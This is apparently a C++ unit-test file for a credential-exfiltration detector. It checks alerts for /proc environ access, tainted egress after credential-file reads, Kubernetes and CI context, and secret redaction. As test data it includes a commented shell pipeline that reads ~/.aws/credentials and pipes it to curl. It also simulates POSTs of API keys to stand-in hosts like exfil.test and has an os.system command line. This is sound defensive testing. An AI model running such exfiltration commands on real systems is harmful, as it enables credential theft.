// Process context in alerts (credential variables, CI job, systemd unit) and the alert for a
// process opening another's /proc/<pid>/environ, over a fake /proc: no kernel needed.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <fstream>

#include "credsentry_abi.h"
#include "pipeline/pipeline.h"
#include "pipeline_fixture.h"
#include "report/alert_json.h"

namespace credsentry::pipeline {
namespace {

using fixture::CaptureSink;
using fixture::Header;
using fixture::OpenAiKey;
using fixture::RandomToken;
using fixture::Record;

std::string Env(std::initializer_list<std::string> entries) {
  std::string out;
  for (const auto& e : entries) out += e + '\0';
  return out;
}

class ProcessContextTest : public fixture::FakeProcPipelineTest {
 protected:
  ProcessContextTest() : FakeProcPipelineTest("test-host") {}

  void ProcAccess(uint32_t pid, uint32_t uid, const char* comm, uint32_t target,
                  uint32_t target_uid, uint8_t what) {
    cs_proc_access_event e{};
    e.hdr = Header(CS_EV_PROC_ACCESS, pid, uid, ++ts_, comm);
    e.fd = 3;
    e.target_pid = target;
    e.target_uid = target_uid;
    e.what = what;
    pipeline_->Handle(Record(e));
  }

  void PlainHttpPost(uint32_t pid, const char* comm, const std::string& body) {
    cs_connect_event c{};
    c.hdr = Header(CS_EV_CONNECT, pid, 0, ++ts_, comm);
    c.fd = 5;
    c.family = AF_INET;
    c.port = 8080;
    c.sock_type = SOCK_STREAM;
    inet_pton(AF_INET, "127.0.0.9", c.addr);
    pipeline_->Handle(Record(c));
    std::string req =
        "POST /x HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + std::to_string(body.size()) +
        "\r\n\r\n" + body;
    cs_data_event d{};
    d.hdr = Header(CS_EV_SOCK_DATA, pid, 0, ++ts_, comm);
    d.fd = 5;
    d.fd_kind = CS_FD_SOCK_TCP;
    d.sock_state = CS_SOCK_PLAIN;
    d.len = req.size();
    d.total_len = req.size();
    d.chunk_flags = CS_CHUNK_LAST;
    pipeline_->Handle(Record(d, req));
  }

  bool AnyLineContains(const std::string& needle) const {
    for (const auto& l : sink_.lines) {
      if (l.find(needle) != std::string::npos) return true;
    }
    return false;
  }

  // A credential-file open and read as the kernel reports them (cred_id = file index + 1).
  void ReadCredentialFile(uint32_t pid, const char* comm, const std::string& file_id,
                          const char* path, const std::string& content,
                          uint64_t stdout_pipe = 0) {
    uint32_t cred_id = 0;
    for (size_t i = 0; i < db_->rules().files.size(); ++i) {
      if (db_->rules().files[i].id == file_id) cred_id = static_cast<uint32_t>(i + 1);
    }
    ASSERT_NE(cred_id, 0u) << file_id;
    cs_cred_open_event o{};
    o.hdr = Header(CS_EV_CRED_OPEN, pid, 0, ++ts_, comm);
    o.fd = 4;
    o.cred_id = cred_id;
    o.stdout_pipe = stdout_pipe;
    std::strcpy(o.path, path);
    o.path_len = std::strlen(path);
    pipeline_->Handle(Record(o));
    cs_data_event d{};
    d.hdr = Header(CS_EV_CRED_READ, pid, 0, ++ts_, comm);
    d.fd = 4;
    d.fd_kind = CS_FD_CRED_FILE;
    d.len = content.size();
    d.total_len = content.size();
    d.chunk_flags = CS_CHUNK_LAST;
    pipeline_->Handle(Record(d, content));
  }

  void Fork(uint32_t parent, uint32_t child, const char* comm) {
    cs_fork_event f{};
    f.hdr = Header(CS_EV_FORK, parent, 0, ++ts_, comm);
    f.child_pid = child;
    pipeline_->Handle(Record(f));
  }

  void TlsWrite(uint32_t pid, const char* comm, const char* sni, const std::string& bytes) {
    cs_connect_event c{};
    c.hdr = Header(CS_EV_CONNECT, pid, 0, ++ts_, comm);
    c.fd = 7;
    c.family = AF_INET;
    c.port = 443;
    c.sock_type = SOCK_STREAM;
    inet_pton(AF_INET, "127.0.0.1", c.addr);
    pipeline_->Handle(Record(c));
    cs_tls_sni_event n{};
    n.hdr = Header(CS_EV_TLS_SNI, pid, 0, ++ts_, comm);
    n.ssl = 0x77;
    std::strcpy(n.name, sni);
    n.name_len = std::strlen(sni);
    pipeline_->Handle(Record(n));
    cs_data_event d{};
    d.hdr = Header(CS_EV_TLS_DATA, pid, 0, ++ts_, comm);
    d.fd = 7;
    d.ssl = 0x77;
    d.fd_kind = CS_FD_SOCK_TCP;
    d.len = bytes.size();
    d.total_len = bytes.size();
    d.chunk_flags = CS_CHUNK_LAST;
    pipeline_->Handle(Record(d, bytes));
  }

  std::vector<alert::Alert> OfKind(const std::string& kind) const {
    std::vector<alert::Alert> out;
    for (const auto& a : sink_.alerts) {
      if (a.kind == kind) out.push_back(a);
    }
    return out;
  }

};

TEST_F(ProcessContextTest, EnvironReadOfAnotherUsersKeyHolderAlertsWithNamesOnly) {
  const std::string key = OpenAiKey();
  FakeProc(200, 1, 1001, "worker", Env({"OPENAI_API_KEY=" + key, "LANG=C"}), "/t/a");
  FakeProc(300, 1, 0, "cat", Env({"PATH=/bin"}), "/t/a");
  Exec(200, 1, 1001, "worker");
  Exec(300, 1, 0, "cat");
  ProcAccess(300, 0, "cat", 200, 1001, CS_PROC_ENVIRON);
  ProcAccess(300, 0, "cat", 200, 1001, CS_PROC_ENVIRON);  // the same access again: one alert

  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.kind, "process-credential-access");
  EXPECT_EQ(a.severity, alert::Severity::kHigh);
  EXPECT_EQ(a.process.pid, 300u);
  EXPECT_EQ(a.target.pid, 200u);
  EXPECT_EQ(a.target.uid, 1001u);
  EXPECT_EQ(a.target.comm, "worker");
  EXPECT_EQ(a.target.access, "environ");
  EXPECT_EQ(a.target.credential_env, std::vector<std::string>{"OPENAI_API_KEY"});
  EXPECT_NE(a.summary.find("OPENAI_API_KEY"), std::string::npos);
  EXPECT_TRUE(AnyLineContains("\"target\":{"));
  EXPECT_FALSE(AnyLineContains(key));
  EXPECT_FALSE(AnyLineContains(key.substr(8, 20)));
}

TEST_F(ProcessContextTest, SameUserWithoutCredentialsIsMedium) {
  FakeProc(210, 1, 1000, "app", Env({"LANG=C"}), "/t/a");
  FakeProc(310, 1, 1000, "gdb", Env({"LANG=C"}), "/t/a");
  Exec(210, 1, 1000, "app");
  Exec(310, 1, 1000, "gdb");
  ProcAccess(310, 1000, "gdb", 210, 1000, CS_PROC_MEM);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].severity, alert::Severity::kMedium);
  EXPECT_EQ(sink_.alerts[0].target.access, "mem");
}

TEST_F(ProcessContextTest, UnknownTargetIsReportedWithoutBeingRead) {
  FakeProc(320, 1, 0, "cat", Env({}), "/t/a");
  Exec(320, 1, 0, "cat");
  ProcAccess(320, 0, "cat", 999, 1002, CS_PROC_ENVIRON);  // no /proc/999 in the fake root
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_FALSE(sink_.alerts[0].target.in_scope);
  EXPECT_EQ(sink_.alerts[0].severity, alert::Severity::kHigh);  // another user's process
}

TEST_F(ProcessContextTest, EgressAlertCarriesCiJobUnitAndCredentialVariableNames) {
  const std::string key = OpenAiKey();
  FakeProc(400, 1, 0, "Runner.Worker",
           Env({"GITHUB_ACTIONS=true", "GITHUB_REPOSITORY=acme/widgets", "GITHUB_WORKFLOW=rel",
                "GITHUB_RUN_ID=77", "GITHUB_JOB=publish"}),
           "/system.slice/actions.runner.service");
  FakeProc(401, 400, 0, "python3", Env({"GITHUB_ACTIONS=true", "OPENAI_API_KEY=" + key}),
           "/system.slice/actions.runner.service");
  Exec(400, 1, 0, "Runner.Worker");
  Exec(401, 400, 0, "python3");
  PlainHttpPost(401, "python3", "{\"k\":\"" + key + "\"}");

  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.process.credential_env, std::vector<std::string>{"OPENAI_API_KEY"});
  EXPECT_EQ(a.process.systemd_unit, "actions.runner.service");
  EXPECT_EQ(a.ci.provider, "github-actions");
  EXPECT_EQ(a.ci.repository, "acme/widgets");
  EXPECT_EQ(a.ci.run_id, "77");
  EXPECT_EQ(a.ci.job, "publish");
  bool named_source = false;
  for (const auto& n : a.evidence.notes) {
    named_source |= n.find("environment variable OPENAI_API_KEY of python3") != std::string::npos;
  }
  EXPECT_TRUE(named_source);
  EXPECT_TRUE(AnyLineContains("\"ci\":{"));
  EXPECT_FALSE(AnyLineContains(key));
  EXPECT_EQ(pipeline_->Counters()["secrets_learned_from_environments"], 1u);
}

TEST_F(ProcessContextTest, EgressAndProcAccessAlertsCarryTheKubernetesPod) {
  const std::string key = OpenAiKey();
  const std::string pod_cgroup =
      "/kubepods.slice/kubepods-besteffort.slice/"
      "kubepods-besteffort-pod1b2c3d4e_5f60_7182_93a4_b5c6d7e8f901.slice/cri-containerd-" +
      std::string(64, 'c') + ".scope";
  FakeProc(410, 1, 0, "python3",
           Env({"OPENAI_API_KEY=" + key, "POD_NAME=exfil-7d9f", "POD_NAMESPACE=ci-jobs"}),
           pod_cgroup);
  Exec(410, 1, 0, "python3");
  PlainHttpPost(410, "python3", "{\"k\":\"" + key + "\"}");
  ProcAccess(410, 0, "python3", 1, 0, CS_PROC_ENVIRON);

  ASSERT_EQ(sink_.alerts.size(), 2u);
  for (const auto& a : sink_.alerts) {
    EXPECT_EQ(a.process.pod.uid, "1b2c3d4e-5f60-7182-93a4-b5c6d7e8f901") << a.kind;
    EXPECT_EQ(a.process.pod.name, "exfil-7d9f") << a.kind;
    EXPECT_EQ(a.process.pod.ns, "ci-jobs") << a.kind;
    EXPECT_EQ(a.process.container, std::string(64, 'c')) << a.kind;
  }
  EXPECT_TRUE(
      AnyLineContains("\"pod\":{\"name\":\"exfil-7d9f\",\"namespace\":\"ci-jobs\","
                      "\"uid\":\"1b2c3d4e-5f60-7182-93a4-b5c6d7e8f901\"}"));
  EXPECT_FALSE(AnyLineContains(key));
}

TEST_F(ProcessContextTest, ReadingAnotherPodsEnvironmentNamesBothPodsAndContainers) {
  const std::string key = OpenAiKey();
  auto pod_cgroup = [](const std::string& uid_, char container) {
    return "/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" + uid_ +
           ".slice/cri-containerd-" + std::string(64, container) + ".scope";
  };
  FakeProc(430, 1, 1001, "inference",
           Env({"OPENAI_API_KEY=" + key, "POD_NAME=model-0", "POD_NAMESPACE=serving"}),
           pod_cgroup("aaaaaaaa_0000_4000_8000_000000000001", 'a'));
  FakeProc(431, 1, 0, "sidecar", Env({"POD_NAME=evil-1", "POD_NAMESPACE=default"}),
           pod_cgroup("bbbbbbbb_0000_4000_8000_000000000002", 'b'));
  Exec(430, 1, 1001, "inference");
  Exec(431, 1, 0, "sidecar");
  ProcAccess(431, 0, "sidecar", 430, 1001, CS_PROC_ENVIRON);

  ASSERT_EQ(sink_.alerts.size(), 1u);
  const auto& a = sink_.alerts[0];
  EXPECT_EQ(a.process.pod.name, "evil-1");
  EXPECT_EQ(a.process.container, std::string(64, 'b'));
  EXPECT_EQ(a.target.container, std::string(64, 'a'));
  EXPECT_EQ(a.target.pod.uid, "aaaaaaaa-0000-4000-8000-000000000001");
  EXPECT_EQ(a.target.pod.name, "model-0");
  EXPECT_EQ(a.target.pod.ns, "serving");
  EXPECT_TRUE(AnyLineContains("\"container\":\"" + std::string(64, 'a') + "\""));
  EXPECT_FALSE(AnyLineContains(key));
}

TEST_F(ProcessContextTest, GarbageProcAccessKindIsCountedNotFatal) {
  ProcAccess(500, 0, "x", 1, 0, 9);
  EXPECT_TRUE(sink_.alerts.empty());
  EXPECT_EQ(pipeline_->Counters()["records_undecodable"], 1u);
}

TEST_F(ProcessContextTest, ChildOfACredentialReaderSendingAnywhereUnexpectedIsTaintedEgress) {
  // The bytes are opaque (as from Java's TLS or custom encryption): no format can match.
  ReadCredentialFile(600, "sh", "aws-credentials", "/home/u/.aws/credentials",
                     "[default]\nregion = eu-west-1\n");
  Fork(600, 601, "sh");
  PlainHttpPost(601, "java", "opaque-" + RandomToken(32));
  PlainHttpPost(601, "java", "opaque-" + RandomToken(32));  // same destination: no second alert
  EXPECT_TRUE(sink_.alerts.empty());  // held briefly: a secret match would say more
  pipeline_->Housekeeping(ts_ + detect::ProvenanceOptions{}.report_delay_ns + 1);
  auto tainted = OfKind("tainted-egress");
  ASSERT_EQ(tainted.size(), 1u);
  const auto& a = tainted[0];
  EXPECT_EQ(a.process.pid, 601u);
  EXPECT_EQ(a.destination.ip, "127.0.0.9");
  EXPECT_EQ(a.destination.port, 8080u);
  EXPECT_EQ(a.secret.type, "aws-credentials");
  ASSERT_FALSE(a.evidence.credential_reads.empty());
  EXPECT_EQ(a.evidence.credential_reads[0].path, "/home/u/.aws/credentials");
  EXPECT_EQ(a.evidence.credential_reads[0].pid, 600u);
  EXPECT_NE(a.summary.find("sh (pid 600) read /home/u/.aws/credentials"), std::string::npos);
  EXPECT_FALSE(a.destination.expected.empty());  // *.amazonaws.com, from the file's kinds
}

TEST_F(ProcessContextTest, ProcessReadingACredentialReadersPipeIsTaintedEgress) {
  // `(while read -r l; do echo "$l"; done < creds) | curl --data-binary @- ...`: the subshell
  // (forked, never exec'd) opens the file with pipe 9001 as stdout; curl reads that pipe.
  Fork(700, 701, "sh");
  Fork(700, 702, "sh");
  Fork(700, 703, "sh");
  Exec(702, 700, 0, "curl", /*stdin_pipe=*/9001);
  Exec(703, 700, 0, "curl", /*stdin_pipe=*/9002);  // another pipeline: stays clean
  ReadCredentialFile(701, "sh", "aws-credentials", "/home/u/.aws/credentials",
                     "[default]\nregion = eu-west-1\n", /*stdout_pipe=*/9001);
  PlainHttpPost(702, "curl", "opaque-" + RandomToken(32));
  PlainHttpPost(703, "curl", "opaque-" + RandomToken(32));
  pipeline_->Housekeeping(ts_ + detect::ProvenanceOptions{}.report_delay_ns + 1);
  auto tainted = OfKind("tainted-egress");
  ASSERT_EQ(tainted.size(), 1u);
  const auto& a = tainted[0];
  EXPECT_EQ(a.process.pid, 702u);
  ASSERT_FALSE(a.evidence.credential_reads.empty());
  EXPECT_EQ(a.evidence.credential_reads[0].pid, 701u);
  EXPECT_NE(a.summary.find("after sh (pid 701) read /home/u/.aws/credentials"),
            std::string::npos)
      << a.summary;
  bool pipe_note = false;
  for (const auto& n : a.evidence.notes) pipe_note |= n.find("through a pipe") != std::string::npos;
  EXPECT_TRUE(pipe_note);
  EXPECT_EQ(pipeline_->Counters()["tainted_pipes"], 1u);
}

TEST_F(ProcessContextTest, ExpectedDestinationOfTheFilesCredentialIsNotTainted) {
  ReadCredentialFile(610, "aws", "aws-credentials", "/root/.aws/credentials",
                     "[default]\nregion = eu-west-1\n");
  TlsWrite(610, "aws", "sts.eu-west-1.amazonaws.com", "POST / HTTP/1.1\r\n\r\n");
  pipeline_->Drain();
  EXPECT_TRUE(OfKind("tainted-egress").empty());
  TlsWrite(610, "aws", "paste.example", "POST / HTTP/1.1\r\n\r\n");
  pipeline_->Drain();
  auto tainted = OfKind("tainted-egress");
  ASSERT_EQ(tainted.size(), 1u);
  EXPECT_EQ(tainted[0].destination.host, "paste.example");
}

TEST_F(ProcessContextTest, UntaintedProcessesRaiseNothingWithoutAFormatMatch) {
  PlainHttpPost(620, "curl", "hello " + RandomToken(16));
  pipeline_->Drain();
  EXPECT_TRUE(sink_.alerts.empty());
}

TEST_F(ProcessContextTest, SecretAlertReplacesTheTaintedEgressAlert) {
  const std::string key = OpenAiKey();
  ReadCredentialFile(630, "python3", "openai-config", "/root/.config/openai/auth.json",
                     "{\"api_key\": \"" + key + "\"}");
  PlainHttpPost(630, "python3", "{\"k\":\"" + key + "\"}");
  pipeline_->Drain();
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].kind, "credential-file-egress");
  EXPECT_EQ(pipeline_->Counters()["tainted_egress_covered_by_secret_alerts"], 1u);
  EXPECT_FALSE(AnyLineContains(key));
}

// No raw secret in an alert, whatever its format: an ancestor's command line carries a key no
// rule knows, a random token and a password, while the alert is about a catalogue key its child
// sends.
TEST_F(ProcessContextTest, AncestorsUnknownKeyTokenAndPasswordAreNowhereInTheAlert) {
  for (uint32_t round = 0; round < 20; ++round) {  // other keys and pids (dedup keys on the pid)
    const uint32_t parent = 800 + 2 * round, child = parent + 1;
    const std::string nvapi = "nvapi-" + RandomToken(64);
    const std::string token = RandomToken(40);
    const std::string password = "hunter2-" + RandomToken(6);
    const std::string key = OpenAiKey();
    Exec(parent, 1, 0, "python3", 0,
         {"python3", "-c", "import os,sys; k='" + nvapi + "'; os.system(sys.argv[1])", "--token",
          token, "--password", password, "--max-time", "15"});
    Exec(child, parent, 0, "curl", 0,
         {"curl", "-sS", "--max-time", "15", "https://api.openai.com/v1/models"});
    const size_t before = sink_.lines.size();
    PlainHttpPost(child, "curl", "{\"k\":\"" + key + "\"}");
    ASSERT_EQ(sink_.lines.size(), before + 1) << "round " << round;
    const alert::Alert& a = sink_.alerts.back();
    const std::string& json = sink_.lines.back();
    for (const std::string* raw : {&nvapi, &token, &password, &key}) {
      ASSERT_EQ(json.find(*raw), std::string::npos) << "round " << round;
      ASSERT_EQ(json.find(raw->substr(raw->size() / 2 - 4, 8)), std::string::npos)
          << "round " << round;
    }
    // The context stays readable.
    ASSERT_EQ(a.process.cmdline, "curl -sS --max-time 15 https://api.openai.com/v1/models");
    ASSERT_FALSE(a.process.ancestors.empty());
    const std::string& anc = a.process.ancestors.front().cmdline;
    EXPECT_EQ(anc.rfind("python3 -c import os,sys; k='nvapi-", 0), 0u) << "round " << round;
    EXPECT_NE(anc.find("os.system(sys.argv[1]) --token "), std::string::npos);
    EXPECT_NE(anc.find(" --password "), std::string::npos);
    EXPECT_NE(anc.find(" --max-time 15"), std::string::npos);
    EXPECT_EQ(a.process.ancestors.front().exe, "/usr/bin/python3");
    EXPECT_NE(json.find("sk-proj-"), std::string::npos);  // the catalogue preview
  }
}

TEST_F(ProcessContextTest, ValueLearnedFromAnEnvironmentIsHiddenInCommandLines) {
  // A value of no particular shape, learned as a credential variable's value: only knowing it
  // hides it (words and dashes pass every shape rule).
  const std::string value = "correct-horse-battery-" + RandomToken(4);
  pipeline_->LearnSecret(value, "environment variable DEPLOY_PASSWORD of test");
  Exec(600, 1, 0, "bash", 0, {"bash", "-c", "deploy " + value});
  Exec(601, 600, 0, "curl", 0, {"curl", "https://exfil.test/"});
  PlainHttpPost(601, "curl", OpenAiKey());
  ASSERT_EQ(sink_.lines.size(), 1u);
  EXPECT_EQ(sink_.lines[0].find(value), std::string::npos);
  EXPECT_NE(sink_.alerts[0].process.ancestors.front().cmdline.find("bash -c deploy "),
            std::string::npos);
  EXPECT_EQ(pipeline_->Counters()["redaction_values"], 1u);
}

// A passphrase in a variable named like a secret is not random enough to be learned for
// matching, yet it is a secret: no alert may show it, in the command line that repeats it.
TEST_F(ProcessContextTest, PassphraseOfASecretNamedVariableIsHiddenInCommandLines) {
  const std::string phrase = "correct horse battery staple " + RandomToken(4);
  FakeProc(610, 1, 0, "bash", Env({"DEPLOY_PASSWORD=" + phrase, "LANG=C"}), "/t/a");
  Exec(610, 1, 0, "bash", 0, {"bash", "-c", "deploy " + phrase});
  Exec(611, 610, 0, "curl", 0, {"curl", "https://exfil.test/"});
  PlainHttpPost(611, "curl", OpenAiKey());
  ASSERT_EQ(sink_.lines.size(), 1u);
  EXPECT_EQ(sink_.lines[0].find(phrase), std::string::npos) << sink_.lines[0];
  EXPECT_EQ(sink_.lines[0].find("battery staple"), std::string::npos) << sink_.lines[0];
  EXPECT_NE(sink_.alerts[0].process.ancestors.front().cmdline.find("bash -c deploy "),
            std::string::npos);
  EXPECT_EQ(pipeline_->Counters()["environment_values_not_random"], 1u);
  EXPECT_EQ(pipeline_->Counters()["secrets_learned_from_environments"], 0u);
}

// A variable that only the rules' `credential_env:` lists (no kind's `env:`, not built in) is
// named in the alert and its value learned.
TEST_F(ProcessContextTest, CredentialEnvOnlyVariableIsNamedAndLearned) {
  const std::string jwt = "eyJhbGciOiJSUzI1NiJ9." + RandomToken(40) + "." + RandomToken(40);
  FakeProc(620, 1, 0, "python3", Env({"CI_JOB_JWT=" + jwt, "LANG=C"}), "/t/a");
  Exec(620, 1, 0, "python3");
  PlainHttpPost(620, "python3", OpenAiKey());
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].process.credential_env, std::vector<std::string>{"CI_JOB_JWT"});
  EXPECT_EQ(pipeline_->Counters()["secrets_learned_from_environments"], 1u);
}

}  // namespace
}  // namespace credsentry::pipeline
